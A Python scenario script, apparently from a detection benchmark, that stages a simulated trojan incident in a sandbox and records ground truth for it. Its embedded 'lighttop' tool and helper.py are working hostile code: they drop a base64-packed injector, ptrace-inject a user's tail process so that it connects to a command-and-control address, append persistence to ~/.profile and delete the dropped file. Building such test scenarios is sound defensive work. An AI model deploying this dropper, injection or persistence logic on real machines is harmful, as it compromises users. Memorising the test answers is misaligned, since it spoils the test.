# SPDX-License-Identifier: MIT
"""Drives the tool incident: dave installs a downloaded tool; it makes his own `tail` open the connection, by ptrace.

tool_injection.py OUT ROOT FIRST_PID WITNESS KEY PROGRAM RULES: PROGRAM is the compiled inject.c. Runs outside, in the
namespace that owns fd00:a::5 and 10.0.0.9.
"""
import base64
import io
import os
import socket
import sys
import tarfile
import time
import zlib

import noise
import scene

HOME = "/home/dave"
ARCHIVE = HOME + "/lighttop.tar"
TOOL = HOME + "/lighttop/lighttop"
LINK = HOME + "/lighttop/python"
INJECTOR = HOME + "/.cache/.lt/attach"
TOOL_SCRIPT = b"""#!/bin/sh
# A small top. (And what nobody reads: its helper.)
here=$(dirname "$0")
[ -e "$here/python" ] || ln -s /usr/bin/python3.11 "$here/python"
"$here/python" "$here/helper.py"
ps -eo pid,comm,rss --sort=-rss | head -n 6
"""
HELPER = """import base64
import os
import subprocess
import zlib

folder = os.path.expanduser("~/.cache/.lt")
os.makedirs(folder, exist_ok=True)
with open(folder + "/attach", "wb") as file:
    file.write(zlib.decompress(base64.b64decode("@PROGRAM@")))
os.chmod(folder + "/attach", 0o700)
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open(f"/proc/{pid}/comm") as file:
            if file.read() == "tail\\n" and os.stat(f"/proc/{pid}").st_uid == os.getuid():
                subprocess.run([folder + "/attach", pid])
                break
    except OSError:
        pass
with open(os.path.expanduser("~/.profile"), "a") as file:
    file.write("(~/lighttop/python ~/lighttop/helper.py &) >/dev/null 2>&1\\n")
os.unlink(folder + "/attach")
"""


def package(program):
    """The tool as 10.0.0.9 offers it."""
    with open(program, "rb") as file:
        packed = base64.b64encode(zlib.compress(file.read(), 9)).decode()
    output = io.BytesIO()
    with tarfile.open(fileobj=output, mode="w") as archive:
        for name, data, mode in (("lighttop/lighttop", TOOL_SCRIPT, 0o755),
                                 ("lighttop/helper.py", HELPER.replace("@PROGRAM@", packed).encode(), 0o644),
                                 ("lighttop/README", b"lighttop: a small top. Run ./lighttop\n", 0o644)):
            member = tarfile.TarInfo(name)
            member.size, member.mode = len(data), mode
            archive.addfile(member, io.BytesIO(data))
    return output.getvalue()


def incident(world, dave, listener):
    """What dave does, and what is seen of it from outside."""
    seen = {}
    dave.run("echo started >notes.log")
    start = time.time()
    dave.run("tail -F notes.log >tail.out 2>&1 &")
    seen["victim"] = world.execution(start, "/usr/bin/tail")["pid"]
    seen["shell"] = world.execution(start, "/usr/bin/tail")["ppid"]
    start = time.time()
    dave.run("curl -s -O http://10.0.0.9/lighttop.tar")
    seen["curl"] = world.execution(start, "/usr/bin/curl", seen["shell"])["pid"]
    seen["archive"] = world.file(ARCHIVE)
    dave.run("tar xf lighttop.tar && cat lighttop/README")
    seen["tar"] = world.execution(start, "/usr/bin/tar", seen["shell"])["pid"]
    seen["tool-file"] = world.file(TOOL)
    seen["helper-file"] = world.file(HOME + "/lighttop/helper.py")
    time.sleep(8)
    start = time.time()
    dave.run("lighttop/lighttop")
    listener.settimeout(20)
    connection, seen["peer"] = listener.accept()
    seen["connected"] = time.time()
    descriptors = f"/proc/{seen['victim']}/fd"
    sockets = [number for number in os.listdir(descriptors) if "socket" in os.readlink(f"{descriptors}/{number}")]
    assert len(sockets) == 1, "another process than the expected one was made to connect"
    tool = world.execution(start, TOOL)
    assert tool["ppid"] == seen["shell"], tool
    seen["tool"] = tool["pid"]
    injector = world.execution(start, INJECTOR)
    seen["injector"], seen["injector-file"] = injector["pid"], {
        "path": INJECTOR, "dev": injector["dev"], "inode": injector["inode"]}
    helper = [line for line in world.executions(start, "/usr/bin/python3.11", seen["tool"])]
    assert len(helper) == 1 and helper[0]["pid"] == injector["ppid"], helper
    seen["helper"] = helper[0]["pid"]
    assert os.readlink(world.root + LINK) == "/usr/bin/python3.11"
    seen["profile"] = world.file(HOME + "/.profile")
    seen["connection"] = connection
    return seen


def tell(truth, seen):
    truth.address("download", "10.0.0.9", 80, "where the tool comes from")
    truth.process("downloader", seen["curl"], "/usr/bin/curl", "dave fetches the tool")
    truth.file("archive", seen["archive"], "the tool's archive")
    truth.process("unpacker", seen["tar"], "/usr/bin/tar", "unpacks it")
    truth.file("tool-file", seen["tool-file"], "the tool: a shell script")
    truth.process("tool", seen["tool"], "/usr/bin/dash", "dave runs it")
    truth.file("helper-file", seen["helper-file"], "the tool's helper")
    truth.process("helper", seen["helper"], "/usr/bin/python3.11", "started through a symbolic link to the interpreter")
    truth.file("injector-file", seen["injector-file"], "dropped by the helper, removed again")
    truth.process("injector", seen["injector"], INJECTOR, "attaches to tail by ptrace")
    truth.process("victim", seen["victim"], "/usr/bin/tail", "dave's own, made to connect")
    truth.address("c2", "fd00:a::5", 443, "command and control")
    truth.file("profile", seen["profile"], "persistence: a line was appended")
    for edge in (("download", "receive", "downloader"), ("downloader", "create", "archive"),
                 ("unpacker", "create", "tool-file"), ("unpacker", "create", "helper-file"),
                 ("tool-file", "execute", "tool"), ("tool", "fork", "helper"), ("helper-file", "open-read", "helper"),
                 ("helper", "create", "injector-file"), ("injector-file", "execute", "injector"),
                 ("helper", "fork", "injector"), ("injector", "inject", "victim"), ("victim", "connect", "c2"),
                 ("helper", "open-write", "profile"), ("helper", "delete", "injector-file"),
                 ("archive", "open-read", "unpacker")):
        truth.edge(*edge)
    truth.case["path"] = ["download", "downloader", "archive", "unpacker", "tool-file", "tool", "helper",
                          "injector-file", "injector", "victim", "c2"]


def main():
    out, root, first_pid, witness, key, program, rules = sys.argv[1:]
    world = scene.World(root, int(first_pid), witness, key, out)
    other = noise.Noise(world, pause=(9.0, 24.0))
    scene.FileServer("10.0.0.9", {"/lighttop.tar": package(program)})
    listener = socket.create_server(("fd00:a::5", 443), family=socket.AF_INET6)
    begin = time.monotonic()
    other.prepare()
    other.start()
    noise.wait_until(begin + 60)
    dave = scene.Terminal(world, "dave")
    dave.run("ls; df -h / | tail -n 1")
    seen = incident(world, dave, listener)
    time.sleep(10)
    dave.run("echo done >>notes.log; tail -n 1 tail.out")
    dave.run("kill %1; sleep 1")
    dave.leave()
    noise.wait_until(begin + 150)
    other.stop()

    truth = scene.Truth(rules)
    truth.case["alert"] = {"address": "fd00:a::5", "port": 443, "time": f"@{seen['connected'] + 0.12:.6f}"}
    truth.case["login"] = {"user": "dave", "address": "10.0.0.26"}
    tell(truth, seen)
    here = ("fd00:a::2", seen["peer"][1])
    truth.write(out, [scene.alert(seen["connected"] + 0.12, here, ("fd00:a::5", 443), 1000117,
                                  "LOCAL no TLS on port 443 to a listed address", "A Network Trojan was detected", 1,
                                  "failed", 1121000000000002)])


if __name__ == "__main__":
    main()
